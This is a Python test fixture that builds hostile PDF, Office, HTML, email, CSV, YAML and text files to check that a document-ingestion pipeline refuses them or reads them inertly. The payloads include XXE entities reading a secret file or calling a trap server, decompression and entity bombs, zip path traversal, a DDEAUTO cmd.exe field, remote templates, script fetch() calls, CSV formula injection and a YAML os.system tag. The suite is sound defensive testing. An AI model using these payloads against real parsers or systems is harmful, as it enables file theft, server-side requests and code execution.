"""The hostile files: a name, what makes it, and what must become of it.

`expected` names the errors a file may be refused with, or "added". An added file is inert: `says` stands in
its text, `silent` in nothing that was read of it.
"""

from __future__ import annotations

import codecs
import gzip
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.ingest.hostile import pdfs, zips
from tests.ingest.hostile.pdfs import TEXT
from tests.ingest.hostile.zips import docx, epub, hwpx, odt, paragraph, xlsx

ADDED = ("added",)
BOMB = (
    "HostileFile",
    "TooMuchMemory",
    "TookTooLong",
    "TooMuchText",
    "TooLarge",
    "TooManyPages",
    "ReaderCrashed",
)
BROKEN = ("DamagedFile", "HostileFile")
SECRET = "the-password-of-this-machine"


@dataclass(frozen=True)
class Trap:
    """A server that must hear nothing, and a file that must not be read."""

    url: str
    secret: Path


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[Trap], bytes]
    expected: tuple[str, ...]
    says: str = ""
    silent: tuple[str, ...] = ()
    note: str = ""  # the kind of note that the document must carry
    traps: bool = False  # it names the server or the secret file


def _html(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>Page</title>{head}</head><body>{body}</body></html>".encode()


def _external(trap: Trap, kind: str) -> str:
    target = trap.url if kind == "http" else trap.secret.as_uri()
    return f'<!DOCTYPE d [<!ENTITY z SYSTEM "{target}">]>'


def _external_dtd(trap: Trap) -> str:
    return f'<!DOCTYPE d SYSTEM "{trap.url}/evil.dtd" [<!ENTITY % p SYSTEM "{trap.url}/p"> %p;]>'


def _template(trap: Trap) -> bytes:
    rows = [
        f"r1|attachedTemplate|{trap.url}/evil.dotm|External",
        f"r2|image|{trap.url}/pixel.png|External",
        f"r3|hyperlink|{trap.secret.as_uri()}|External",
        f"r4|oleObject|{trap.url}/x.bin|External",
        f"r5|frame|{trap.url}/frame.docx|External",
    ]
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT '
        f'"{trap.secret}" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx(
        paragraph(TEXT) + field,
        more={
            "word/_rels/document.xml.rels": zips.relationships(*rows),
            "word/_rels/settings.xml.rels": zips.relationships(rows[0]),
        },
    )


def _scripts(trap: Trap) -> bytes:
    url = trap.url
    return _html(
        f"<article><h1>The treaty</h1><p onclick=\"fetch('{url}')\">{TEXT} It has many articles.</p>"
        f'<script>document.write("written-by-script"); fetch("{url}")</script>'
        f'<img src="{url}/a.png" onerror="alert(1)"><iframe src="{url}/f"></iframe>'
        f'<object data="{trap.secret.as_uri()}"></object><video src="{url}/v" autoplay></video>'
        f'<svg onload="written-by-script()"><script>written-by-script()</script></svg>'
        f'<a href="javascript:alert(1)">Read on</a><style>@import "{url}/s.css"</style>'
        f"<noscript>written-by-script</noscript><template>written-by-script</template></article>",
        f'<base href="{url}/"><link rel=stylesheet href="{url}/s.css"><meta http-equiv=refresh content="0;{url}">'
        f'<script src="{url}/x.js"></script>',
    )


def _nested_mail(depth: int) -> bytes:
    """Each part holds the next."""
    out = ["From: a@example.org", "Subject: Nested", "MIME-Version: 1.0"]
    for level in range(depth):
        out += [f'Content-Type: multipart/mixed; boundary="b{level}"', "", f"--b{level}"]
    return "\r\n".join([*out, "Content-Type: text/plain", "", TEXT, ""]).encode()


def _forwarded_mail(depth: int) -> bytes:
    return (
        "Subject: Forwarded\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" * depth
        + f"Subject: Inner\r\n\r\n{TEXT}\r\n"
    ).encode()


def _wide_mail(parts: int) -> bytes:
    head = 'Subject: Wide\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
    part = f"--b\r\nContent-Type: text/plain\r\n\r\n{TEXT}\r\n"
    return (head + part * parts + "--b--\r\n").encode()


def _mail_with_scripts(trap: Trap) -> bytes:
    page = _scripts(trap).decode()
    return (
        "From: a@example.org\r\nSubject: Treaty\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n'
        f"{page}\r\n--b\r\nContent-Type: application/x-msdownload\r\n"
        'Content-Disposition: attachment; filename="../../evil.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        "TVqQAAMAAAA=\r\n--b--\r\n"
    ).encode()


def _sheet_of(rows: str) -> Callable[[Trap], bytes]:
    return lambda _: xlsx(rows)


def _rtf(body: str) -> bytes:
    return ("{\\rtf1\\ansi " + body + "}").encode("ascii", "backslashreplace")


def _xhtml(body: str, doctype: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{doctype}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>C</title></head>'
        f"<body>{body}</body></html>"
    )


def _compound_loop() -> bytes:
    """An OLE container whose allocation table, and directory, lead round in circles."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = b"\x3e\0\x03\0\xfe\xff\x09\0\x06\0"
    header[44:48] = (1).to_bytes(4, "little")  # one sector of the table
    header[48:52] = (1).to_bytes(4, "little")  # the directory begins in sector 1
    header[56:60] = (4096).to_bytes(4, "little")
    header[60:64] = (1).to_bytes(4, "little")
    header[64:68] = (1).to_bytes(4, "little")
    header[68:72] = (0).to_bytes(4, "little")  # more of the table: sector 0, which goes on in itself
    header[72:76] = (2**31).to_bytes(4, "little")
    header[76:80] = (0).to_bytes(4, "little")
    table = b"".join(n.to_bytes(4, "little") for n in (0, 1, 1, *[0] * 125))
    directory = bytearray(sector)
    for at, name in enumerate(("Root Entry", "FileHeader", "BodyText", "Section0")):
        encoded = name.encode("utf-16-le")
        entry = at * 128
        directory[entry : entry + len(encoded)] = encoded
        directory[entry + 64 : entry + 66] = (len(encoded) + 2).to_bytes(2, "little")
        directory[entry + 66] = 5 if at == 0 else 1 if at == 2 else 2
        for link in (68, 72, 76):  # left, right and child: each other
            directory[entry + link : entry + link + 4] = ((at + 1) % 4).to_bytes(4, "little")
        directory[entry + 116 : entry + 120] = (1).to_bytes(4, "little")
        directory[entry + 120 : entry + 124] = (2**31 - 1).to_bytes(4, "little")
    return bytes(header) + table + bytes(directory) * 3


PDF = (
    Hostile("flate-bomb.pdf", lambda _: pdfs.flate_bomb(), (*BOMB, "NoTextLayer")),
    Hostile("lzw-bomb.pdf", lambda _: pdfs.lzw_bomb(), (*BOMB, "NoTextLayer")),
    Hostile("nested-filters.pdf", lambda _: pdfs.nested_filters(), (*BOMB, "NoTextLayer")),
    Hostile("many-filters.pdf", lambda _: pdfs.many_filters(), (*BOMB, "NoTextLayer")),
    Hostile("predictor.pdf", lambda _: pdfs.predictor_of_huge_rows(), (*BOMB, "NoTextLayer")),
    Hostile("prev-loop.pdf", lambda _: pdfs.prev_loop(), (*ADDED, *BROKEN)),
    Hostile("xref-stream-loop.pdf", lambda _: pdfs.xref_stream_loop(), BROKEN),
    Hostile("object-stream-loop.pdf", lambda _: pdfs.object_stream_in_itself(), (*ADDED, *BROKEN)),
    Hostile("pages-within-themselves.pdf", lambda _: pdfs.pages_within_themselves(), (*ADDED, *BROKEN)),
    Hostile("pages-in-a-circle.pdf", lambda _: pdfs.pages_in_a_circle(), (*BROKEN, "NoTextLayer")),
    Hostile("deep-page-tree.pdf", lambda _: pdfs.deep_page_tree(), (*ADDED, *BROKEN, *BOMB)),
    Hostile("a-billion-pages.pdf", lambda _: pdfs.count_of_pages(10**9), (*ADDED, *BROKEN, "TooManyPages")),
    Hostile("minus-one-page.pdf", lambda _: pdfs.count_of_pages(-1), (*ADDED, *BROKEN)),
    Hostile("the-same-page.pdf", lambda _: pdfs.the_same_page(100_000), (*BROKEN, "TooManyPages")),
    Hostile("huge-box.pdf", lambda _: pdfs.media_box("[0 0 1000000000 1000000000]"), ADDED, TEXT),
    Hostile("huger-box.pdf", lambda _: pdfs.media_box(f"[0 0 {'9' * 400} 1e400]"), (*ADDED, *BROKEN)),
    Hostile("no-box.pdf", lambda _: pdfs.media_box("[0 0 0 0]"), (*ADDED, *BROKEN)),
    Hostile("huge-empty-box.pdf", lambda _: pdfs.huge_box_without_text(), ("NoTextLayer", *BOMB)),
    Hostile("cyclic-outline.pdf", lambda _: pdfs.cyclic_outline(), ADDED, TEXT),
    Hostile("outline-next-to-itself.pdf", lambda _: pdfs.outline_next_to_itself(), ADDED, TEXT),
    Hostile("deep-outline.pdf", lambda _: pdfs.deep_outline(), ADDED, TEXT),
    Hostile("cyclic-labels.pdf", lambda _: pdfs.cyclic_labels(), ADDED, TEXT),
    Hostile("roman-label.pdf", lambda _: pdfs.label_of_a_billion("r"), ADDED, TEXT),
    Hostile("letter-label.pdf", lambda _: pdfs.label_of_a_billion("A"), ADDED, TEXT),
    Hostile("cyclic-names.pdf", lambda _: pdfs.cyclic_names(), ADDED, TEXT),
    Hostile("actions.pdf", lambda t: pdfs.actions(t.url), ADDED, TEXT, ("launchURL", "/bin/sh"), traps=True),
    Hostile(
        "content-from-elsewhere.pdf",
        lambda t: pdfs.content_from_elsewhere(t.url, str(t.secret)),
        ADDED,
        TEXT,
        (SECRET,),
        traps=True,
    ),
    Hostile("attached-file.pdf", lambda _: pdfs.attached_file(), ADDED, TEXT, ("payload",), "attachments"),
    Hostile("xmp-bomb.pdf", lambda _: pdfs.xmp(zips.entity_bomb()), ADDED, TEXT, ("laughlaugh",)),
    Hostile(
        "xmp-external.pdf",
        lambda t: pdfs.xmp(_external(t, "file")),
        ADDED,
        TEXT,
        (SECRET,),
        traps=True,
    ),
    Hostile("xmp-web.pdf", lambda t: pdfs.xmp(_external(t, "http")), ADDED, TEXT, traps=True),
    Hostile("form-within-itself.pdf", lambda _: pdfs.form_within_itself(), (*ADDED, *BOMB)),
    Hostile("forms-that-double.pdf", lambda _: pdfs.forms_that_double(), (*ADDED, *BOMB)),
    Hostile("deep-array.pdf", lambda _: pdfs.deep_array(), (*ADDED, *BROKEN, *BOMB)),
    Hostile("deep-states.pdf", lambda _: pdfs.deep_states(), (*ADDED, *BROKEN, "NoTextLayer")),
    Hostile("truncated.pdf", lambda _: pdfs.truncated(), ("DamagedFile",)),
    Hostile("locked.pdf", lambda _: pdfs.with_password(), ("PasswordNeeded",)),
    Hostile("html-inside.pdf", lambda _: _html("<p>No PDF.</p>"), ("FormatMismatch",)),
)

OFFICE = (
    Hostile("entity-bomb.docx", lambda _: docx(paragraph("&z;"), zips.entity_bomb()), ("HostileFile",)),
    Hostile("entity-file.docx", lambda t: docx(paragraph("&z;"), _external(t, "file")), BROKEN, traps=True),
    Hostile("entity-web.docx", lambda t: docx(paragraph("&z;"), _external(t, "http")), BROKEN, traps=True),
    Hostile(
        "external-dtd.docx",
        lambda t: docx(paragraph(TEXT), _external_dtd(t)),
        (*ADDED, *BROKEN),
        traps=True,
    ),
    Hostile("template.docx", _template, ADDED, TEXT, (SECRET, "DDEAUTO"), traps=True),
    Hostile("ratio.docx", lambda _: docx(paragraph(" " * 100_000_000 + "x")), ("HostileFile", "TooLarge")),
    Hostile("many-entries.docx", lambda _: zips.many_entries(25_000), ("TooLarge", "HostileFile")),
    Hostile("overlapping.docx", lambda _: zips.overlapping(200, 20_000_000), ("TooLarge", "HostileFile")),
    Hostile(
        "nested.docx",
        lambda _: docx(paragraph(TEXT), more={"word/embeddings/a.docx": docx(paragraph("x" * 15_000_000))}),
        ADDED,
        TEXT,
    ),
    Hostile("dot-dot.docx", lambda _: docx(paragraph(TEXT), more={"../../evil.xml": "x"}), ("HostileFile",)),
    Hostile("absolute.docx", lambda _: docx(paragraph(TEXT), more={"/etc/evil.xml": "x"}), ("HostileFile",)),
    Hostile(
        "lying-size.docx",
        lambda _: zips.with_stated_size(docx(paragraph("x" * 50_000_000)), "word/document.xml", 200),
        BROKEN,
    ),
    Hostile("truncated.docx", lambda _: docx(paragraph(TEXT))[:-200], ("DamagedFile",)),
    Hostile("deep.docx", lambda _: docx("<w:p>" * 100_000 + "</w:p>" * 100_000), BROKEN),
    Hostile(
        "wide-cell.docx",
        lambda _: docx(
            "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='1000000000'/></w:tcPr>"
            f"{paragraph(TEXT)}</w:tc></w:tr></w:tbl>"
        ),
        (*ADDED, *BROKEN),
        TEXT,
    ),
    Hostile("entity-bomb.odt", lambda _: odt("<text:p>&z;</text:p>", zips.entity_bomb()), ("HostileFile",)),
    Hostile(
        "repeated-cells.odt",
        lambda _: odt(
            "<table:table><table:table-row table:number-rows-repeated='1000000000'><table:table-cell "
            f"table:number-columns-repeated='1000000000'><text:p>{TEXT}</text:p></table:table-cell>"
            "</table:table-row></table:table>"
        ),
        (*ADDED, *BROKEN),
        TEXT,
    ),
    Hostile(
        "spaces.odt", lambda _: odt(f"<text:p>{TEXT}<text:s text:c='1000000000'/></text:p>"), (*ADDED, *BOMB)
    ),
    Hostile("entity-bomb.hwpx", lambda _: hwpx("<hp:p>&z;</hp:p>", zips.entity_bomb()), ("HostileFile",)),
    Hostile("entity-bomb.epub", lambda _: epub(_xhtml("&z;", zips.entity_bomb())), (*ADDED, *BROKEN)),
    Hostile(
        "entity-file.epub",
        lambda t: epub(_xhtml(f"<p>{TEXT} &z;</p>", _external(t, "file"))),
        (*ADDED, *BROKEN),
        silent=(SECRET,),
        traps=True,
    ),
    Hostile("dot-dot.epub", lambda _: epub(_xhtml(TEXT), {"../evil": "x"}), ("HostileFile",)),
    Hostile(
        "the-same-chapter.epub",
        lambda _: epub(_xhtml(f"<p>{TEXT}</p>" * 1000), spine=20_000),
        (*ADDED, *BROKEN, *BOMB),
    ),
    Hostile("ratio.epub", lambda _: epub(" " * 100_000_000), ("HostileFile", "TooLarge")),
    Hostile(
        "entity-bomb.xlsx",
        lambda _: xlsx("<row><c t='inlineStr'><is><t>&z;</t></is></c></row>", zips.entity_bomb()),
        ("HostileFile",),
    ),
    Hostile(
        "far-cell.xlsx",
        _sheet_of(
            f"<row r='1'><c r='A1' t='inlineStr'><is><t>{TEXT}</t></is></c></row>"
            "<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>Far.</t></is></c></row>"
        ),
        (*ADDED, *BROKEN),
        TEXT,
    ),
    Hostile(
        "farther-cell.xlsx",
        _sheet_of(
            f"<row r='1'><c r='A1' t='inlineStr'><is><t>{TEXT}</t></is></c></row>"
            "<row r='999999999999'><c r='ZZZZZZZZ999999999999' t='inlineStr'><is><t>Far.</t></is></c></row>"
        ),
        (*ADDED, *BROKEN),
    ),
    Hostile(
        "formula.xlsx",
        lambda t: xlsx(
            f"<row r='1'><c r='A1' t='inlineStr'><is><t>{TEXT}</t></is></c><c r='B1' t='str'>"
            f"<f>WEBSERVICE(&quot;{t.url}&quot;)</f><v>kept value</v></c></row>"
        ),
        ADDED,
        TEXT,
        ("WEBSERVICE",),
        traps=True,
    ),
    Hostile("ratio.xlsx", lambda _: xlsx("<row/>" * 20_000_000), ("HostileFile", "TooLarge")),
    Hostile("loop.hwp", lambda _: _compound_loop(), ("DamagedFile", "HostileFile", "UnknownFormat")),
    Hostile("deep-groups.rtf", lambda _: _rtf("{" * 100_000 + TEXT + "}" * 100_000), (*ADDED, *BROKEN)),
    Hostile("open-groups.rtf", lambda _: _rtf(TEXT + "{" * 1_000_000), (*ADDED, *BROKEN)),
    Hostile("binary.rtf", lambda _: _rtf(TEXT + r"\bin999999999999 x\par"), (*ADDED, *BROKEN)),
    Hostile(
        "objects.rtf",
        lambda t: _rtf(
            rf"{TEXT}\par {{\field{{\*\fldinst INCLUDETEXT {t.secret}}}{{\fldrslt shown}}}}"
            rf"{{\object\objautlink{{\*\objclass Word}}{{\*\objdata 0105}}}}{{\*\template {t.url}/evil.dotm}}"
        ),
        ADDED,
        TEXT,
        (SECRET, "INCLUDETEXT"),
        traps=True,
    ),
)

WEB = (
    Hostile("scripts.html", _scripts, ADDED, TEXT, ("written-by-script", "alert(1)", SECRET), traps=True),
    Hostile(
        "deep.html",
        lambda _: _html("<div>" * 100_000 + TEXT + "</div>" * 100_000),
        (*ADDED, *BROKEN, *BOMB),
    ),
    Hostile("deep-lists.html", lambda _: _html("<ul><li>" * 20_000 + TEXT), (*ADDED, *BROKEN, *BOMB)),
    Hostile("deep-tables.html", lambda _: _html("<table><tr><td>" * 5_000 + TEXT), (*ADDED, *BROKEN, *BOMB)),
    Hostile(
        "huge-spans.html",
        lambda _: _html(
            f"<p>{TEXT}</p><table><tr><td colspan=1000000000 rowspan=1000000000>a<td>b</tr>"
            + "<tr><td colspan=1000 rowspan=65534>c" * 300
            + "</table>"
        ),
        (*ADDED, *BOMB),
    ),
    Hostile(
        "entity.xhtml",
        lambda t: _xhtml(f"<p>{TEXT} &z;</p>", _external(t, "file")).encode(),
        (*ADDED, *BROKEN),
        silent=(SECRET,),
        traps=True,
    ),
    Hostile(
        "entity-bomb.xhtml",
        lambda _: _xhtml(f"<p>{TEXT} &z;</p>", zips.entity_bomb()).encode(),
        (*ADDED, *BROKEN),
    ),
    Hostile(
        "charset.html",
        lambda _: _html("<p>Д</p>", "<meta charset=idna>").replace("Д".encode(), b"\xc4\xe0"),
        (*ADDED, "UndecodableText"),
    ),
    Hostile(
        "attributes.html",
        lambda _: _html("<p " + " ".join(f"a{n}=1" for n in range(20_000)) + f">{TEXT}</p>"),
        (*ADDED, *BROKEN, *BOMB),
    ),
    Hostile(
        "many-breaks.html", lambda _: _html(f"<p>{TEXT}</p>" + "<b><i><p>" * 5_000), (*ADDED, *BROKEN, *BOMB)
    ),
    Hostile("nested-mail.eml", lambda _: _nested_mail(10_000), (*ADDED, *BROKEN, *BOMB)),
    Hostile("forwarded.eml", lambda _: _forwarded_mail(10_000), (*ADDED, *BROKEN, *BOMB)),
    Hostile("wide.eml", lambda _: _wide_mail(10_000), (*ADDED, *BROKEN, *BOMB)),
    Hostile(
        "scripts.eml",
        _mail_with_scripts,
        ADDED,
        TEXT,
        ("written-by-script", "alert(1)", SECRET),
        traps=True,
    ),
)

PLAIN = (
    Hostile("long-line.txt", lambda _: b"word " * 10_000_000, BOMB),
    Hostile("long-word.txt", lambda _: (TEXT + "\n\n").encode() + b"x" * 100_000, ADDED, TEXT),
    Hostile("marks.txt", lambda _: (f"{TEXT}\n\na" + "\u0301\u0316" * 80_000).encode(), (*ADDED, *BOMB)),
    Hostile("zeros.txt", lambda _: TEXT.encode() + bytes(1000), ("UndecodableText",)),
    Hostile("some-zeros.md", lambda _: ("# T\n\n" + TEXT + "\0" * 3).encode(), ("UndecodableText",)),
    Hostile("zeros.html", lambda _: _html(f"<p>{TEXT}\0\0</p>"), ("UndecodableText", *ADDED)),
    Hostile(
        "surrogates.txt",
        lambda _: (f"{TEXT} \ud800 \udfff Ende.\n" * 20).encode("utf-8", "surrogatepass"),
        (*ADDED, "UndecodableText"),
    ),
    Hostile(
        "surrogates.html", lambda _: _html(f"<p>{TEXT} &#xD800; &#55296; &#x110000; &#0;</p>"), ADDED, TEXT
    ),
    Hostile(
        "surrogates-utf-16.txt",
        lambda _: codecs.BOM_UTF16_LE + (TEXT + "\ud800 a").encode("utf-16-le", "surrogatepass"),
        (*ADDED, "UndecodableText"),
    ),
    Hostile(
        "bidi.txt", lambda _: f"{TEXT} Pay \u202e001\u202c to \u2067evil\u2069 \u200f.".encode(), ADDED, TEXT
    ),
    Hostile("quotes.md", lambda _: (">" * 100_000 + " " + TEXT).encode(), ("DamagedFile",)),
    Hostile("brackets.md", lambda _: ("[" * 5_000 + TEXT + "](" * 5_000).encode(), (*ADDED, *BROKEN, *BOMB)),
    Hostile("stars.md", lambda _: (TEXT + "\n\n" + "*a _b " * 5_000).encode(), (*ADDED, *BROKEN, *BOMB)),
    Hostile(
        "lists.md",
        lambda _: (TEXT + "\n\n" + "".join(" " * level + "- a\n" for level in range(1_000))).encode(),
        ("DamagedFile",),
    ),
    Hostile(
        "yaml.md",
        lambda _: (
            "---\na: &a [x,x,x,x,x,x,x,x,x]\n"
            + "".join(
                f"{b}: &{b} [" + ",".join([f"*{a}"] * 9) + "]\n"
                for a, b in zip("abcdefgh", "bcdefghi", strict=True)
            )
            + f"title: *i\nauthor: !!python/object/apply:os.system ['true']\n---\n\n{TEXT}\n"
        ).encode(),
        (*ADDED, *BROKEN),
        silent=("x, x, x",),
    ),
    Hostile(
        "formulas.csv",
        lambda _: b'Country,Imports\n"=cmd|\' /C calc\'!A0","=HYPERLINK(""http://x"")"\nTajikistan,@SUM(1)\n',
        ADDED,
        "=cmd|' /C calc'!A0",
    ),
    Hostile("wide.csv", lambda _: b"a," * 500_000 + b"\n" + b"1," * 500_000, (*ADDED, *BROKEN, *BOMB)),
    Hostile("open-quote.csv", lambda _: b'a,b\n"' + b"x,\n" * 10_000, (*ADDED, *BROKEN, *BOMB)),
    Hostile(
        "tabs.txt",
        lambda _: TEXT.encode() + b"\n\n" + b"a\t" * 200_000 + b"\n" + b"b\t" * 200_000,
        (*ADDED, *BOMB),
    ),
    Hostile("empty.pdf", lambda _: b"", ("EmptyFile",)),
    Hostile("blank.txt", lambda _: b" \n\t" * 1000, ("EmptyFile",)),
    Hostile("packed.txt", lambda _: gzip.compress(bytes(1000)), ("FormatMismatch",)),
    Hostile("program.docx", lambda _: b"\x7fELF\x02\x01\x01" + bytes(100), ("FormatMismatch",)),
    Hostile("old.doc", lambda _: _compound_loop(), ("UnknownFormat", "FormatMismatch", "DamagedFile")),
)

FILES = (*PDF, *OFFICE, *WEB, *PLAIN)
